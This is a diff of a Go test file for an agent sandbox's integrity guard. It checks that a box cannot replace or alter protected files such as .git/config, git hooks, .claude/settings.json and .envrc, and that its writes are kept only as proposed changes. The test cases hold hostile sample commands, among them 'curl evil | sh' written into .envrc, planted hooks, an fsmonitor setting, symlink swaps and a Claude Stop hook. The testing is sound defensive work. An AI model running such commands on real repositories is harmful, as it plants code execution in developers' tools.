@@ -1,12 +1,15 @@
 package integrity_test
 
 import (
+	"fmt"
 	"os"
 	"os/exec"
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 
+	"github.com/agentbox/agentbox/internal/changes"
 	"github.com/agentbox/agentbox/internal/engine"
 	"github.com/agentbox/agentbox/internal/engine/enginetest"
 	"github.com/agentbox/agentbox/internal/engine/execstage"
@@ -24,7 +27,7 @@ func TestMain(m *testing.M) {
 }
 
 // needGit skips when git is missing.
-func needGit(t *testing.T) {
+func needGit(t testing.TB) {
 	t.Helper()
 	if _, err := exec.LookPath("git"); err != nil {
 		t.Skip("git not installed")
@@ -32,7 +35,7 @@ func needGit(t *testing.T) {
 }
 
 // git runs git on the host in dir.
-func git(t *testing.T, dir string, args ...string) string {
+func git(t testing.TB, dir string, args ...string) string {
 	t.Helper()
 	cmd := exec.Command("git", args...)
 	cmd.Dir = dir
@@ -45,7 +48,7 @@ func git(t *testing.T, dir string, args ...string) string {
 	return string(out)
 }
 
-func write(t *testing.T, path, content string) {
+func write(t testing.TB, path, content string) {
 	t.Helper()
 	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
 		t.Fatal(err)
@@ -59,7 +62,7 @@ func write(t *testing.T, path, content string) {
 // .claude/settings.json, .envrc, proj.code-workspace and .github/workflows/ci.yml; .mcp.json,
 // .vscode, .devcontainer, .gitmodules,
 // .git/commondir, .git/config.worktree and .git/info/attributes are absent.
-func repo(t *testing.T, ws string) {
+func repo(t testing.TB, ws string) {
 	t.Helper()
 	git(t, ws, "init", "-q", "-b", "main")
 	write(t, filepath.Join(ws, "main.go"), "package main\n")
@@ -81,12 +84,13 @@ type protectedBox struct {
 	reg     *integrity.Registry
 	launch  string
 	changes string // the launch's proposed changes
+	staged  string // the staged copies of its existing protected files
 }
 
-func newProtectedBox(t *testing.T, setup func(ws string), script string, o enginetest.Options) (*protectedBox, enginetest.Result) {
+func newProtectedBox(t testing.TB, setup func(ws string), script string, o enginetest.Options) (*protectedBox, enginetest.Result) {
 	t.Helper()
 	pb := &protectedBox{launch: "launch-" + strings.ReplaceAll(t.Name(), "/", "-"), reg: &integrity.Registry{Path: filepath.Join(t.TempDir(), "placeholders.json")},
-		changes: filepath.Join(t.TempDir(), "changes")}
+		changes: filepath.Join(t.TempDir(), "changes"), staged: filepath.Join(t.TempDir(), "staged")}
 	p, _ := enginetest.NewPlan(t, "/bin/sh", []string{"-c", script}, func(in *plan.Input) {
 		pb.ws = in.Workspace
 		in.Cwd = in.Workspace
@@ -96,6 +100,9 @@ func newProtectedBox(t *testing.T, setup func(ws string), script string, o engin
 		}
 		lay, err := pb.reg.Prepare(pb.launch, in.Workspace, nil)
 		if err != nil {
+			t.Fatal(err)
+		}
+		if lay.Protected, err = changes.Stage(pb.staged, lay.Protected); err != nil {
 			t.Fatal(err)
 		}
 		pb.lay = lay
@@ -112,10 +119,22 @@ func newProtectedBox(t *testing.T, setup func(ws string), script string, o engin
 	return pb, r
 }
 
+// collect keeps what the box wrote in its staged copies as proposed changes, as the daemon
+// does when the launch ends, and returns their paths.
+func (pb *protectedBox) collect(t testing.TB) []string {
+	t.Helper()
+	kept, err := changes.Collect(pb.staged, pb.changes)
+	if err != nil {
+		t.Errorf("collect the staged copies: %v", err)
+	}
+	return kept
+}
+
 // release ends the launch as the daemon does and fails the test if anything is left on the
 // host at a guarded path (the box's or agentbox's).
-func (pb *protectedBox) release(t *testing.T) {
+func (pb *protectedBox) release(t testing.TB) {
 	t.Helper()
+	pb.collect(t)
 	if _, err := pb.reg.Release(pb.launch); err != nil {
 		t.Errorf("release: %v", err)
 	}
@@ -132,17 +151,16 @@ func (pb *protectedBox) release(t *testing.T) {
 	}
 }
 
-// TestReplacementAttempts runs each attempt to change a protected path from inside a real
-// box; every one must fail, and the integrity roots must show no transition afterwards.
+// TestReplacementAttempts runs each attempt to replace a protected path from inside a real
+// box; every one must fail, and the integrity roots must show no transition afterwards. (A
+// write to a protected file that exists succeeds in its staged copy and never reaches the
+// host: TestExistingProtectedKeptAsProposed.)
 func TestReplacementAttempts(t *testing.T) {
 	needGit(t)
 	attempts := []struct {
 		name, script string
 		setup        func(ws string)
 	}{
-		{"WriteInPlace", "echo evil >> .git/config", nil},
-		{"Truncate", ": > .claude/settings.json", nil},
-		{"TruncateSyscall", "truncate -s 0 .envrc", nil},
 		{"RenameOver", "echo evil > t && mv -f t .git/config", nil},
 		{"RenameOverHooksDir", "mkdir h && mv -T h .git/hooks", nil},
 		{"RenameParentGit", "mv .git .git-away", nil},
@@ -152,10 +170,9 @@ func TestReplacementAttempts(t *testing.T) {
 		{"RenameWorkspaceRoot", `mv "$PWD" "$PWD-away"`, nil},
 		{"RemoveParentClaude", "rm -rf .claude && test ! -e .claude", nil},
 		{"RemoveParentGit", "rm -rf .git && test ! -e .git", nil},
-		{"UnlinkRecreate", "rm -f .envrc; echo 'curl evil | sh' > .envrc", nil},
+		{"Unlink", "rm -f .envrc && test ! -e .envrc", nil},
 		{"UnlinkRecreateHook", "rm -f .git/hooks/pre-commit; printf '#!/bin/sh\\nevil\\n' > .git/hooks/pre-commit", nil},
 		{"NewHook", "printf '#!/bin/sh\\nevil\\n' > .git/hooks/post-checkout", nil},
-		{"Chmod", "chmod 0777 .git/config", nil},
 		{"ChmodHookDir", "chmod 0777 .git/hooks", nil},
 		{"SymlinkSwap", "ln -sfn /tmp/evil .claude/settings.json", nil},
 		{"SymlinkRenameOver", "ln -s /tmp/evil l && mv -fT l .git/config", nil},
@@ -163,7 +180,6 @@ func TestReplacementAttempts(t *testing.T) {
 		{"HardlinkRenameOver", "echo evil > h && ln h h2 && mv -f h2 .git/config", nil},
 		{"NewWorkflow", "echo 'on: push' > .github/workflows/evil.yml", nil},
 		{"GitConfigCommand", "git config core.fsmonitor evil", nil},
-		{"WriteCodeWorkspace", "echo '{\"tasks\":{}}' > proj.code-workspace", nil},
 	}
 	for _, a := range attempts {
 		t.Run(a.name, func(t *testing.T) {
@@ -344,4 +360,120 @@ func TestAbsentProtectedKeptAsProposed(t *testing.T) {
 			}
 		})
 	}
+}
+
+// TestExistingProtectedKeptAsProposed: a protected file that exists is given to the box as a
+// staged copy. Writing it in place — appending, truncating, rewriting, changing its mode —
+// succeeds in the box and the box reads back what it wrote, but the host's file never
+// changes (no integrity transition): what the box wrote is kept as a proposed change that
+// modifies the path, beside what the file held at launch. Before staging these writes failed
+// ("Read-only file system").
+func TestExistingProtectedKeptAsProposed(t *testing.T) {
+	needGit(t)
+	attempts := []struct{ name, script, rel, want string }{
+		{"AppendGitConfig", `printf '[core]\n\tfsmonitor = evil\n' >> .git/config && grep -q 'fsmonitor = evil' .git/config`, ".git/config", "+\tfsmonitor = evil"},
+		{"RewriteClaudeSettings", `echo '{"hooks":{"Stop":"evil"}}' > .claude/settings.json && grep -q evil .claude/settings.json`, ".claude/settings.json", `{"hooks":{"Stop":"evil"}}` + "\n"},
+		{"TruncateEnvrc", `: > .envrc && test ! -s .envrc`, ".envrc", ""},
+		{"TruncateSyscall", `truncate -s 0 .envrc`, ".envrc", ""},
+		{"UnlinkFailsRewriteKept", `if rm -f .envrc 2>/dev/null; then echo unlinked; exit 7; fi; echo 'curl evil | sh' > .envrc`, ".envrc", "curl evil | sh\n"},
+		{"WriteCodeWorkspace", `echo '{"tasks":{}}' > proj.code-workspace`, "proj.code-workspace", `{"tasks":{}}` + "\n"},
+		{"ChmodExecutable", `chmod 0755 .envrc && test -x .envrc`, ".envrc", "mode"},
+	}
+	for _, a := range attempts {
+		t.Run(a.name, func(t *testing.T) {
+			t.Parallel()
+			var before []byte
+			pb, r := newProtectedBox(t, func(ws string) {
+				repo(t, ws)
+				var err error
+				if before, err = os.ReadFile(filepath.Join(ws, a.rel)); err != nil {
+					t.Fatal(err)
+				}
+			}, "set -e; "+a.script, enginetest.Options{})
+			defer pb.release(t)
+			if r.Exit != 0 {
+				t.Errorf("the box's write failed: exit %d (stdout %q stderr %q)", r.Exit, r.Stdout, r.Stderr)
+			}
+			if now, err := os.ReadFile(filepath.Join(pb.ws, a.rel)); err != nil || string(now) != string(before) {
+				t.Errorf("%s on the host became %q (%v), want %q", a.rel, now, err, before)
+			}
+			for _, tr := range append(pb.state.VerifyRoots(), pb.state.VerifyExec()...) {
+				if tr.Alert {
+					t.Errorf("after %q: %s %s (%s)", a.script, tr.Kind, tr.Path, tr.Detail)
+				}
+			}
+			if kept := pb.collect(t); len(kept) != 1 || kept[0] != a.rel {
+				t.Fatalf("proposed changes %q, want [%s]", kept, a.rel)
+			}
+			cs, err := changes.List(pb.changes)
+			if err != nil || len(cs) != 1 {
+				t.Fatalf("store: %+v, %v", cs, err)
+			}
+			c := cs[0]
+			if !c.Modifies || string(c.Base) != string(before) {
+				t.Errorf("change %s: modifies %v, base %q, want the file at launch %q", c.Path, c.Modifies, c.Base, before)
+			}
+			switch {
+			case a.want == "mode":
+				if !c.ModeChanged || c.Mode&0o100 == 0 || string(c.Content) != string(before) {
+					t.Errorf("change %s: mode %v (changed %v), content %q", c.Path, c.Mode, c.ModeChanged, c.Content)
+				}
+			case strings.HasPrefix(a.want, "+"):
+				if d := changes.Diff(c, before); !strings.Contains(d, a.want+"\n") {
+					t.Errorf("diff of %s lacks %q:\n%s", c.Path, a.want, d)
+				}
+			default:
+				if string(c.Content) != a.want {
+					t.Errorf("change %s: %q, want %q", c.Path, c.Content, a.want)
+				}
+			}
+		})
+	}
+}
+
+// rebindWait is how long BenchmarkHostReplacementWindow lets box-init re-bind a replaced file
+// before it looks at what reached it.
+const rebindWait = 50 * time.Millisecond
+
+// BenchmarkHostReplacementWindow measures the window issue #20 item 3 asks to close: each op
+// replaces .git/config on the host by rename (as git's lock-and-rename does) while the box
+// appends to it in a tight loop (a shell builtin: no fork per write), waits rebindWait, and
+// looks whether any of the box's writes reached the host's new file before box-init bound it
+// read-only. reached/op is the share of replacements the box wrote through (0 is what the
+// issue asks for); box-writes/op the writes that reached the host per replacement. Writes
+// after rebindWait are not counted: a lower bound when a re-bind takes longer.
+func BenchmarkHostReplacementWindow(b *testing.B) {
+	needGit(b)
+	var ws string
+	reached, writes := 0, 0
+	script := `while [ ! -e stop ]; do echo box >> .git/config; done 2>/dev/null; echo done`
+	pb, r := newProtectedBox(b, func(w string) { ws = w; repo(b, w) }, script, enginetest.Options{AfterExec: func(*engine.Box) {
+		cfg := filepath.Join(ws, ".git/config")
+		b.ResetTimer()
+		for i := 0; i < b.N; i++ {
+			tmp := cfg + ".lock"
+			if err := os.WriteFile(tmp, []byte(fmt.Sprintf("[host]\n\tround = %d\n", i)), 0o644); err != nil {
+				b.Error(err)
+				break
+			}
+			if err := os.Rename(tmp, cfg); err != nil {
+				b.Error(err)
+				break
+			}
+			time.Sleep(rebindWait)
+			c, _ := os.ReadFile(cfg)
+			if n := strings.Count(string(c), "box\n"); n > 0 {
+				reached++
+				writes += n
+			}
+		}
+		b.StopTimer()
+		os.WriteFile(filepath.Join(ws, "stop"), nil, 0o644)
+	}})
+	defer pb.release(b)
+	if !strings.Contains(string(r.Stdout), "done") {
+		b.Fatalf("the box did not run to the end: exit %d, stdout %q, stderr %q", r.Exit, r.Stdout, r.Stderr)
+	}
+	b.ReportMetric(float64(reached)/float64(b.N), "reached/op")
+	b.ReportMetric(float64(writes)/float64(b.N), "box-writes/op")
 }
